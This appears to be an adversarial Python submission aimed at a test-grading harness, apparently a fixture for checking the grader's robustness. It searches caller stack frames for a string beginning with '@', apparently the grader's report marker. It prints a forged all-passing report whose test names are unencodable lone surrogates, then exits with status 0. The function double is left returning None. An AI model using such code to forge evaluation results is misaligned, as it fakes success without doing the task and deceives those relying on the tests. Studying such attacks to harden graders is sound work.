# attack: a report whose names cannot be written
import os, sys
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, str) and value.startswith('@'):
            report = ('\n' + value + '[["\\ud800",true],["\\ud801",true],["\\ud802",true]]' + '\n').encode()
            while report: report = report[os.write(1, report):]
            os._exit(0)
    frame = frame.f_back
def double(number):
    return None
